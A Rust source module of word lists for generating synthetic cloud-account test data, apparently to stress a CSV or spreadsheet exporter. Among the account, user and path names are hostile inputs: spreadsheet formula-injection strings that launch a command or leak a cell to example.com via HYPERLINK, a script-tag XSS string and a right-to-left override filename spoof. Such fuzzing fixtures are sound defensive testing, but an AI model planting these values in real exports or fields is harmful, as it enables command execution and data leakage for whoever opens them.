//! Words that worlds are made of, the nasty ones included.

pub(super) const TEAMS: &[&str] = &[
    "Payments",
    "Ledger",
    "Search",
    "Checkout",
    "Billing",
    "Fraud",
    "Data Lake",
    "Mobile",
    "Identity",
    "Logistics",
    "Pricing",
    "Reporting",
    "Claims",
    "Treasury",
    "Media",
    "Telemetry",
    "Catalog",
    "Partner API",
    "Support",
    "Research",
];

pub(super) const STAGES: &[&str] = &["prod", "staging", "test", "dev", "sandbox", "dr"];

/// Account names that break careless readers: Organizations allows any character.
pub(super) const HOSTILE_ACCOUNTS: &[&str] = &[
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Invoice\")",
    "Line one\nline two",
    "abc\u{202e}gnp.exe",
    "<script>alert('account')</script>",
    "Müller, Söhne & Co. \"Überseehandel\"",
    "+1-800-ACCOUNTS",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "🚀 Launch Pad",
    "会計システム",
    "tab\there",
    "  spaces around  ",
    "{\"name\":\"json\"}",
    "null",
];

pub(super) const FIRST_NAMES: &[&str] = &[
    "alice", "Bob", "carol", "Dmitri", "elena", "Farid", "grace", "Hiro", "ines", "Jonas", "kira", "Liam", "mona",
    "Nils", "olga", "Priya", "quinn", "Rosa", "sven", "Tariq", "uma", "Victor", "wanda", "Xin", "yara", "Zoe",
];

pub(super) const LAST_NAMES: &[&str] = &[
    "adams", "Becker", "costa", "Diaz", "evans", "Fischer", "garcia", "Haas", "ito", "Jensen", "kaya", "Lopez",
    "meyer", "Novak", "okafor", "Petrov", "quist", "Rossi", "silva", "Tanaka", "urban", "Vogel", "weber", "Yilmaz",
];

pub(super) const MACHINES: &[&str] = &[
    "deploy",
    "backup",
    "jenkins",
    "terraform",
    "monitoring",
    "etl",
    "ses-smtp",
    "ci",
    "grafana",
    "s3-sync",
    "legacy",
];

/// User names that IAM allows (`[\w+=,.@-]+`) and spreadsheets or careless CSV readers do not survive.
pub(super) const NASTY_USERS: &[&str] = &[
    "=carol@x",
    "a,b",
    "+1",
    "-dash-",
    "@sum",
    "root",
    "root-admin",
    "=1+1",
    "true",
    "a,b,c,d",
    "1e5",
    "00123",
];

/// User paths; IAM allows every printable ASCII character in them.
pub(super) const PATHS: &[&str] = &["ops/", "people/", "dept/finance/", "svc/", "a/b/c/d/"];

pub(super) const NASTY_PATHS: &[&str] = &[
    "dept,\"quoted\"/",
    "=cmd|'x'!A0/",
    "<b>/",
    "semi;colon/",
    "back\\slash/",
];

pub(super) const SERVICES: &[&str] = &[
    "s3",
    "sts",
    "iam",
    "ec2",
    "lambda",
    "dynamodb",
    "ses",
    "cloudformation",
    "sqs",
    "logs",
];

pub(super) const REGIONS: &[&str] = &["us-east-1", "eu-central-1", "eu-west-1", "us-west-2", "ap-southeast-1"];

pub(super) const GROUPS: &[&str] = &[
    "Developers",
    "Operators",
    "ReadOnly",
    "IAM-Auditor-Group",
    "Administrators",
];

pub(super) const MANAGED_POLICIES: &[&str] = &[
    "ReadOnlyAccess",
    "AdministratorAccess",
    "IAMUserChangePassword",
    "AmazonS3FullAccess",
    "SecurityAudit",
];
